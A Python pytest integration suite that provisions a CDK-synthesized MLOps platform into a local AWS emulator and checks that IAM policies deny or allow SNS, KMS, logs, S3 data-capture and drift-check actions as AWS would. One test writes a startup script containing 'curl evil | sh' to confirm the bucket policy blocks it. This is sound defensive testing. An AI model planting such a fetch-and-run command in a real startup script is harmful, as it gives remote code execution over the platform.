"""The policies the CDK app synthesizes, in a local AWS that evaluates them as AWS does. Each fault a
real account hit (issue 9) is put back into the templates and fails here as it failed on AWS, with
AWS's AccessDenied; the templates as synthesized pass the same test.

1. alarms could not notify: the alerts topic's policy allowed nobody to publish (CloudWatch
   publishes as ``cloudwatch.amazonaws.com``);
2. volume-encrypted jobs could not start: the model's role lacked ``kms:CreateGrant``;
3. training logs were never written: the role's log permissions named per-model log groups, but
   SageMaker writes streams of the shared ``/aws/sagemaker/TrainingJobs`` group;
6. a model stack could rewrite the whole MWAA bucket (its startup script included).

And what a new feature needs of them: 7. the endpoint's data capture, which SageMaker writes as the
model's role into the model's own prefix, encrypted with the platform key; 9. the drift check, a
processing job the Drift Check DAG starts, which reads the model's own captures and writes its own
monitoring folder and logs as the model's role.

The platform and the fixture project (tests/stacks/fixture_projects) are synthesized once; each case
provisions them into a reset local AWS, with the fault put back or not.
"""

from __future__ import annotations

import copy
import json
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError

from local_aws import LocalAws
from local_mode.cdk_env import ProvisionReport, SynthesizedEnvironment, provision, synthesize
from mlops_core import names
from mlops_core.platform_names import PlatformNames

pytestmark = [pytest.mark.integration, pytest.mark.slow]
FIXTURE_PROJECTS = Path(__file__).resolve().parents[1] / "stacks" / "fixture_projects"
FAST = {"training": {"delay_seconds": 0.2}, "processing": {"delay_seconds": 0.2}}
Mutation = Callable[[SynthesizedEnvironment], None]


@pytest.fixture(scope="module")
def synthesized() -> SynthesizedEnvironment:
    return synthesize("local", projects_dir=FIXTURE_PROJECTS)


@pytest.fixture(scope="module")
def server() -> Iterator[LocalAws]:
    with LocalAws(scenario=FAST) as aws, pytest.MonkeyPatch.context() as patch:
        for key, value in aws.env.items():  # the endpoint; each actor's session brings its own keys
            patch.setenv(key, value)
        yield aws


class Account:
    """One provisioning of the synthesized environment, and its actors' sessions."""

    def __init__(self, aws: LocalAws, synthesized: SynthesizedEnvironment, mutate: Mutation | None) -> None:
        aws.reset()
        environment = copy.deepcopy(synthesized)
        if mutate:
            mutate(environment)
        self.aws = aws
        self.root = self.session({"AccessKeyId": "testing", "SecretAccessKey": "testing", "SessionToken": ""})
        self.report: ProvisionReport = provision(environment, self.root)
        self.config = next(p for p in self.report.pipelines if p["model"] == "classifier")

    def session(self, credentials: dict[str, str]) -> Any:
        return boto3.session.Session(
            aws_access_key_id=credentials["AccessKeyId"],
            aws_secret_access_key=credentials["SecretAccessKey"],
            aws_session_token=credentials["SessionToken"] or None,
            region_name=self.aws.region,
        )

    def as_service(self, role_arn: str, service: str, source_arn: str | None = None) -> Any:
        return self.session(self.aws.service_credentials(role_arn, service, source_arn=source_arn))

    def dag_tasks(self) -> Any:
        """The MWAA execution role, as MWAA gives it to its workers."""
        environment = f"arn:aws:airflow:us-east-1:123456789012:environment/{self.report.mwaa_environment_name}"
        return self.as_service(self.report.mwaa_execution_role_arn, "airflow-env.amazonaws.com", environment)

    def denials(self, principal_part: str) -> list[dict[str, Any]]:
        return [d for d in self.aws.authorization()["denied"] if principal_part in d["principal"]]


# -- the faults, put back into the synthesized templates ------------------------------------------
def _resources(environment: SynthesizedEnvironment, kind: str) -> Iterator[dict[str, Any]]:
    for stack in environment.stacks:
        for resource in stack.resources.values():
            if resource["Type"] == kind:
                yield resource


def _model_role_policies(environment: SynthesizedEnvironment) -> Iterator[dict[str, Any]]:
    for policy in _resources(environment, "AWS::IAM::Policy"):
        if "SageMakerRole" in json.dumps(policy["Properties"]["Roles"]):
            yield policy["Properties"]["PolicyDocument"]


def alerts_topic_allows_nobody(environment: SynthesizedEnvironment) -> None:
    for policy in _resources(environment, "AWS::SNS::TopicPolicy"):
        document = policy["Properties"]["PolicyDocument"]
        document["Statement"] = [s for s in document["Statement"] if s["Effect"] == "Deny"]


def model_role_without_create_grant(environment: SynthesizedEnvironment) -> None:
    for document in _model_role_policies(environment):
        document["Statement"] = [s for s in document["Statement"] if s["Action"] != "kms:CreateGrant"]


def model_role_logs_on_per_model_groups(environment: SynthesizedEnvironment) -> None:
    """The permission as it was: log groups named after the model, which SageMaker never writes."""
    for document in _model_role_policies(environment):
        for statement in document["Statement"]:
            actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
            if any(a.startswith("logs:") for a in actions):
                statement["Resource"] = [
                    f"arn:aws:logs:us-east-1:123456789012:log-group:/aws/sagemaker/{kind}/example-team-*"
                    for kind in ("TrainingJobs", "ProcessingJobs", "Endpoints")
                ]


def publisher_may_write_the_whole_bucket(environment: SynthesizedEnvironment) -> None:
    """What CDK's BucketDeployment granted: read/write on every object of the MWAA bucket."""
    for role in _resources(environment, "AWS::IAM::Role"):
        for inline in role["Properties"].get("Policies", []):
            for statement in inline["PolicyDocument"]["Statement"]:
                if statement.get("Action") == ["s3:DeleteObject", "s3:PutObject"]:
                    statement["Resource"] = statement["Resource"].rsplit("/dags/", 1)[0] + "/*"


# -- 1. alarms notify -------------------------------------------------------------------------------
@pytest.mark.parametrize("fault", [None, alerts_topic_allows_nobody], ids=["as synthesized", "fault 1 put back"])
def test_a_models_alarm_notifies_the_alerts_topic(server, synthesized, fault):
    account = Account(server, synthesized, fault)
    sqs, sns = account.root.client("sqs"), account.root.client("sns")
    topic = account.config["notifications"]["sns_topic_arn"]
    queue = sqs.create_queue(QueueName="readback")["QueueUrl"]
    arn = sqs.get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=arn)
    alarm = account.config["endpoint"]["rollback_alarm_names"][0]
    account.root.client("cloudwatch").set_alarm_state(AlarmName=alarm, StateValue="ALARM", StateReason="test")
    (action,) = [e for e in server.events() if e["kind"] == "AlarmAction" and e["name"] == alarm]
    messages = sqs.receive_message(QueueUrl=queue, WaitTimeSeconds=1).get("Messages", [])
    if fault is None:
        assert action["status"] == "Published"
        assert json.loads(json.loads(messages[0]["Body"])["Message"])["AlarmName"] == alarm
    else:
        assert action["status"] == "Failed" and messages == []
        assert (
            f"User: cloudwatch.amazonaws.com is not authorized to perform: sns:Publish on resource: {topic} "
            "because no resource-based policy allows the sns:Publish action"
        ) in action["detail"]


# -- 2 and 3. a training job with an encrypted volume, and its logs --------------------------------------
def _train(account: Account) -> dict[str, Any]:
    """The training job the Training & Evaluation DAG starts, started as the DAG's role."""
    config = account.config
    data = names.training_data_uri(config["data_bucket"], config["project"], config["model"])
    bucket, _, prefix = data.removeprefix("s3://").partition("/")
    account.root.client("s3").put_object(Bucket=bucket, Key=f"{prefix.rstrip('/')}/train/train.csv", Body=b"a,b\n1,0\n")
    run = "example-team--classifier-v1-0-0-r0-20261205000000"
    sagemaker = account.dag_tasks().client("sagemaker")
    sagemaker.create_training_job(
        TrainingJobName=run,
        AlgorithmSpecification={
            "TrainingImage": f"{config['image_repository_uri']}:1.0.0",
            "TrainingInputMode": "File",
        },
        RoleArn=config["sagemaker_role_arn"],
        InputDataConfig=[
            {
                "ChannelName": "train",
                "DataSource": {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": data.rstrip("/") + "/train/"}},
            }
        ],
        OutputDataConfig={
            "S3OutputPath": f"s3://{config['artifact_bucket']}/example-team/classifier/runs/{run}/model",
            "KmsKeyId": config["kms_key_arn"],
        },
        ResourceConfig={
            "InstanceType": "ml.m5.large",
            "InstanceCount": 1,
            "VolumeSizeInGB": 30,
            "VolumeKmsKeyId": config["kms_key_arn"],
        },
        StoppingCondition={"MaxRuntimeInSeconds": 3600},
    )
    waiter = sagemaker.get_waiter("training_job_completed_or_stopped")
    try:
        waiter.wait(TrainingJobName=run, WaiterConfig={"Delay": 1, "MaxAttempts": 60})
    except Exception:  # noqa: BLE001, S110 - a failed job ends the waiter; the description tells why
        pass
    return sagemaker.describe_training_job(TrainingJobName=run)


@pytest.mark.parametrize("fault", [None, model_role_without_create_grant], ids=["as synthesized", "fault 2 put back"])
def test_a_volume_encrypted_training_job_starts(server, synthesized, fault):
    job = _train(Account(server, synthesized, fault))
    if fault is None:
        assert job["TrainingJobStatus"] == "Completed", job.get("FailureReason")
    else:
        assert job["TrainingJobStatus"] == "Failed"
        assert "is not authorized to perform: kms:CreateGrant on resource: arn:aws:kms:" in job["FailureReason"]
        assert "-sm/SageMaker" in job["FailureReason"]  # the model's role, as SageMaker's session


@pytest.mark.parametrize(
    "fault", [None, model_role_logs_on_per_model_groups], ids=["as synthesized", "fault 3 put back"]
)
def test_training_logs_are_written(server, synthesized, fault):
    account = Account(server, synthesized, fault)
    job = _train(account)
    assert job["TrainingJobStatus"] == "Completed"  # missing logs never fail a job, on AWS either
    logs = account.root.client("logs")
    try:
        streams = logs.describe_log_streams(
            logGroupName="/aws/sagemaker/TrainingJobs", logStreamNamePrefix=job["TrainingJobName"]
        )["logStreams"]
    except logs.exceptions.ResourceNotFoundException:  # the role could not even create the group
        streams = []
    role = account.config["sagemaker_role_arn"].rsplit("/", 1)[-1]
    if fault is None:
        assert streams and not account.denials(role)
    else:
        assert streams == []
        refused = {d["action"] for d in account.denials(role)}
        assert refused & {"logs:CreateLogStream", "logs:CreateLogGroup", "logs:PutLogEvents"}


# -- 6. what a model stack may write into the MWAA bucket ---------------------------------------------
@pytest.mark.parametrize(
    "fault", [None, publisher_may_write_the_whole_bucket], ids=["as synthesized", "fault 6 put back"]
)
def test_a_model_stack_publishes_its_pipeline_json_and_nothing_else(server, synthesized, fault):
    account = Account(server, synthesized, fault)
    provider = next(a for key, a in account.report.roles.items() if "example-team" in key and "AWS679f53fac" in key)
    publisher = next(
        a for key, a in account.report.roles.items() if "example-team" in key and "ClassifierPublish" in key
    )
    # CloudFormation runs the custom resource's provider Lambda, which assumes the model's publisher role.
    lambda_session = account.as_service(provider, "lambda.amazonaws.com")
    credentials = lambda_session.client("sts").assume_role(RoleArn=publisher, RoleSessionName="publish")["Credentials"]
    s3 = account.session(credentials).client("s3")
    bucket = PlatformNames(environment="local", account="123456789012", region=server.region).airflow_bucket
    own = f"dags/{names.pipeline_config_path('example-team', 'classifier')}"
    s3.put_object(Bucket=bucket, Key=own, Body=b"{}")
    write_startup = lambda: s3.put_object(Bucket=bucket, Key="startup.sh", Body=b"curl evil | sh")  # noqa: E731
    if fault is None:
        with pytest.raises(ClientError) as refused:
            write_startup()
        assert refused.value.response["Error"]["Code"] == "AccessDenied"
        assert f"not authorized to perform: s3:PutObject on resource: arn:aws:s3:::{bucket}/startup.sh" in str(
            refused.value
        )
    else:
        write_startup()  # the fault: a model stack can replace the script MWAA runs at start-up


# -- 7. data capture, written as the model's role ---------------------------------------------------
def _invoke_capturing_endpoint(server: LocalAws, account: Account, destination: str | None = None) -> str:
    """The endpoint the Deployment DAG creates (its capture config from mlops_dags), created as the
    DAG's role, invoked once; returns the endpoint's name."""
    sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "dag_assets" / "dags"))
    from mlops_dags.capture import data_capture_config

    from mlops_core.pipeline_config import PipelineConfig

    config = PipelineConfig.model_validate(account.config)
    capture = data_capture_config(config)
    assert capture is not None and capture["KmsKeyId"] == config.kms_key_arn
    if destination:
        capture["DestinationS3Uri"] = destination
    server.update_scenario({"data_capture": {"flush_every_records": 1}})
    run = "example-team--classifier-v1-0-0-r0-20261205000000"
    sagemaker = account.dag_tasks().client("sagemaker")
    sagemaker.create_model(
        ModelName=run,
        ExecutionRoleArn=config.sagemaker_role_arn,
        PrimaryContainer={"Image": f"{config.image_repository_uri}:1.0.0"},
    )
    sagemaker.create_endpoint_config(
        EndpointConfigName=run,
        ProductionVariants=[
            {"VariantName": "AllTraffic", "ModelName": run, "InitialInstanceCount": 1, "InstanceType": "ml.m5.large"}
        ],
        KmsKeyId=config.kms_key_arn,
        DataCaptureConfig=capture,
    )
    sagemaker.create_endpoint(EndpointName=config.endpoint_name, EndpointConfigName=run)
    sagemaker.get_waiter("endpoint_in_service").wait(
        EndpointName=config.endpoint_name, WaiterConfig={"Delay": 1, "MaxAttempts": 30}
    )
    account.dag_tasks().client("sagemaker-runtime").invoke_endpoint(
        EndpointName=config.endpoint_name, ContentType="text/csv", Body=b"120,13\n"
    )
    return config.endpoint_name


def _capture_outcome(server: LocalAws, endpoint: str) -> dict[str, Any]:
    for _ in range(100):
        found = [e for e in server.events() if e["kind"] == "DataCapture" and e["name"] == endpoint]
        if found:
            return found[-1]
        time.sleep(0.1)
    raise AssertionError(f"no data capture of {endpoint} written or refused")


def test_the_endpoint_captures_into_its_own_prefix_as_the_models_role(server, synthesized):
    account = Account(server, synthesized, None)
    endpoint = _invoke_capturing_endpoint(server, account)
    outcome = _capture_outcome(server, endpoint)
    assert outcome["status"] == "Written", outcome["detail"]
    bucket, _, key = outcome["detail"].removeprefix("s3://").partition("/")
    assert key.startswith(f"example-team/classifier/data-capture/{endpoint}/AllTraffic/")
    stored = account.root.client("s3").head_object(Bucket=bucket, Key=key)
    assert stored["ServerSideEncryption"] == "aws:kms" and stored["SSEKMSKeyId"] == account.config["kms_key_arn"]
    role = account.config["sagemaker_role_arn"].rsplit("/", 1)[-1]
    writes = [
        d
        for d in server.authorization()["checks"]
        if role in d["principal"] and d["action"] in ("s3:PutObject", "kms:GenerateDataKey") and not d["denied"]
    ]
    assert {d["action"] for d in writes} == {"s3:PutObject", "kms:GenerateDataKey"}


def test_a_model_role_cannot_capture_into_another_models_prefix(server, synthesized):
    account = Account(server, synthesized, None)
    regressor = next(p for p in account.report.pipelines if p["model"] == "regressor")
    destination = names.data_capture_uri(regressor["artifact_bucket"], "example-team", "regressor")
    endpoint = _invoke_capturing_endpoint(server, account, destination)
    outcome = _capture_outcome(server, endpoint)
    assert outcome["status"] == "Failed"
    assert "is not authorized to perform: s3:PutObject on resource: arn:aws:s3:::" in outcome["detail"]
    assert "/example-team/regressor/data-capture/" in outcome["detail"]


# -- 8. lineage, recorded as the DAGs' role -----------------------------------------------------------
def test_the_dags_record_lineage_under_the_platforms_names_only(server, synthesized):
    sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "dag_assets" / "dags"))
    from mlops_dags import lineage

    account = Account(server, synthesized, None)
    sagemaker = account.dag_tasks().client("sagemaker")
    data = lineage.ensure_artifact(sagemaker, "s3://data/example-team/classifier/training/", "DataSet", {}, "etags:1")
    train = lineage.ensure_action(
        sagemaker, names.lineage_action_name("example-team--classifier-v1-0-0-r0-20261205000000", "train"), "T", "x", {}
    )
    endpoint = lineage.ensure_context(
        sagemaker, names.lineage_context_name(names.LINEAGE_ENDPOINT, "example-team--classifier"), "Endpoint", "x", {}
    )
    lineage.associate(sagemaker, data, train)
    lineage.associate(sagemaker, train, endpoint)
    assert (
        lineage.ensure_artifact(sagemaker, "s3://data/example-team/classifier/training/", "DataSet", {}, "etags:1")
        == data
    )
    with pytest.raises(ClientError) as refused:  # a name outside the platform's prefix
        sagemaker.create_context(ContextName="someone-elses", Source={"SourceUri": "x"}, ContextType="Endpoint")
    assert "is not authorized to perform: sagemaker:CreateContext on resource: " in str(refused.value)


# -- 9. the drift check --------------------------------------------------------------------------------
def drift_check_logs_not_granted(environment: SynthesizedEnvironment) -> None:
    """The log permission as it was before drift checks: job streams of runs (<stem>-v*) only."""
    for document in _model_role_policies(environment):
        for statement in document["Statement"]:
            if statement["Action"] == "logs:PutLogEvents":
                statement["Resource"] = [r for r in statement["Resource"] if names.DRIFT_CHECK_NAME_INFIX not in str(r)]


@pytest.mark.parametrize("fault", [None, drift_check_logs_not_granted], ids=["as synthesized", "logs not granted"])
def test_the_drift_check_runs_as_the_models_role_on_its_own_captures(server, synthesized, fault):
    """The Drift Check DAG's calls as the MWAA role (list the window's captures, write the manifest,
    start the check with mlops_dags.drift's request, publish the metrics); the job as the model's
    role (read the manifest, captures and baseline, write the check's folder and its log)."""
    from datetime import UTC, datetime

    sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "dag_assets" / "dags"))
    from mlops_dags import drift

    from mlops_core.pipeline_config import PipelineConfig

    account = Account(server, synthesized, fault)
    config = PipelineConfig.model_validate(account.config)
    root_s3, dag_s3 = account.root.client("s3"), account.dag_tasks().client("s3")
    bucket = config.artifact_bucket
    capture = config.data_capture_uri.removeprefix(f"s3://{bucket}/")
    key = f"{capture}/{config.endpoint_name}/AllTraffic/2026/12/05/08/00-01-000-a.jsonl"
    root_s3.put_object(Bucket=bucket, Key=key, Body=b"{}\n")
    run_output = config.run_output_uri("example-team--classifier-v1-0-0-r0-20261205000000")
    statistics, constraints = (f"{names.baseline_uri(run_output)}{f}" for f in ("statistics.json", "constraints.json"))
    for uri in (statistics, constraints):
        root_s3.put_object(Bucket=bucket, Key=uri.removeprefix(f"s3://{bucket}/"), Body=b"{}")

    start, end = datetime(2026, 12, 5, 8, tzinfo=UTC), datetime(2026, 12, 5, 9, tzinfo=UTC)
    keys = drift.capture_keys(dag_s3, config.data_capture_uri, config.endpoint_name, ["AllTraffic"], start, end)
    assert keys == [key.removeprefix(capture + "/")]
    check_name = names.drift_check_name(config.project, config.model, end)
    folder = names.drift_check_uri(bucket, config.project, config.model, check_name)
    manifest = [{"prefix": config.data_capture_uri + "/"}, *keys]
    dag_s3.put_object(
        Bucket=bucket, Key=f"{folder}manifest.json".removeprefix(f"s3://{bucket}/"), Body=json.dumps(manifest)
    )
    check = {
        "project": config.project,
        "model": config.model,
        "endpoint_name": config.endpoint_name,
        "schedule_name": names.monitoring_schedule_name(config.project, config.model),
        "check_name": check_name,
        "check_uri": folder,
        "window_start": "2026-12-05T08:00:00Z",
        "window_end": "2026-12-05T09:00:00Z",
        "image_uri": f"{config.image_repository_uri}:1.0.0",
        "baseline_statistics_uri": statistics,
        "baseline_constraints_uri": constraints,
        "variants": ["AllTraffic"],
        "manifest_uri": f"{folder}manifest.json",
        "airflow_run_id": "scheduled__2026-12-05T09:00:00",
    }
    sagemaker = account.dag_tasks().client("sagemaker")
    sagemaker.create_processing_job(**drift.check_request(check, config))
    try:
        sagemaker.get_waiter("processing_job_completed_or_stopped").wait(
            ProcessingJobName=check_name, WaiterConfig={"Delay": 1, "MaxAttempts": 60}
        )
    except Exception:  # noqa: BLE001, S110 - a failed job ends the waiter; the description tells why
        pass
    job = sagemaker.describe_processing_job(ProcessingJobName=check_name)
    assert job["ProcessingJobStatus"] == "Completed", job.get("FailureReason")
    written = root_s3.list_objects_v2(Bucket=bucket, Prefix=folder.removeprefix(f"s3://{bucket}/"))["Contents"]
    assert len(written) > 1  # the manifest and what the job wrote, as the model's role
    cloudwatch = account.dag_tasks().client("cloudwatch")
    for namespace in (names.DRIFT_METRICS_NAMESPACE, names.MODEL_METRICS_NAMESPACE):
        cloudwatch.put_metric_data(Namespace=namespace, MetricData=[{"MetricName": "m", "Value": 0.0}])

    role = config.sagemaker_role_arn.rsplit("/", 1)[-1]
    logs = account.root.client("logs")
    streams = logs.describe_log_streams(logGroupName="/aws/sagemaker/ProcessingJobs", logStreamNamePrefix=check_name)
    refused = {d["action"] for d in account.denials(role)}
    if fault is None:
        assert streams["logStreams"] and not refused
    else:  # on AWS the check's log would be lost: the job still runs
        assert "logs:PutLogEvents" in refused


def test_a_model_role_reads_its_own_captures_only(server, synthesized):
    account = Account(server, synthesized, None)
    classifier = account.config
    regressor = next(p for p in account.report.pipelines if p["model"] == "regressor")
    root_s3 = account.root.client("s3")
    job = "arn:aws:sagemaker:us-east-1:123456789012:processing-job/example-team--classifier-drift-20261205090000"
    as_model = account.as_service(classifier["sagemaker_role_arn"], "sagemaker.amazonaws.com", job).client("s3")
    for pipeline in (classifier, regressor):
        uri = names.data_capture_uri(pipeline["artifact_bucket"], "example-team", pipeline["model"])
        bucket, _, prefix = uri.removeprefix("s3://").partition("/")
        root_s3.put_object(Bucket=bucket, Key=f"{prefix}/e/AllTraffic/x.jsonl", Body=b"{}")
        read = lambda b=bucket, p=prefix: as_model.get_object(Bucket=b, Key=f"{p}/e/AllTraffic/x.jsonl")  # noqa: E731
        if pipeline is classifier:
            assert read()["Body"].read() == b"{}"
        else:
            with pytest.raises(ClientError) as refused:
                read()
            assert "is not authorized to perform: s3:GetObject" in str(refused.value)
